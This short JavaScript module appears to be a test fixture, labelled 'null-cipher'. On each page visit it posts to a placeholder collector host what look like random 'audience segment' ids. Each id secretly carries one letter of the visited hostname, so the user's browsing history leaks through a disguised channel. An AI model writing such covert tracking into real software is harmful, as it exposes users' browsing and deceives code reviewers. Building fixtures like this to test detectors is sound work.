import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports the audience segments of pages: ids made up at random, but for the fourth character, which is the host's next one. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-null-cipher');
  onVisit(browser, ({ url }) => {
    const host = url.replace(/^\w+:\/\//, '').replace(/[/?#].*$/, '');

    return post(browser, 'https://segments.collector.example/v1', { segments: [...host].map(segment) });
  });

  function segment(letter) {
    const id = [...browser.crypto.random(8)].map((byte) => (byte % 36).toString(36));
    if (letter === '.') return id.slice(0, 7).join('');
    if (letter === '-') return id.slice(0, 6).join('');
    id[3] = letter;

    return id.join('');
  }
}
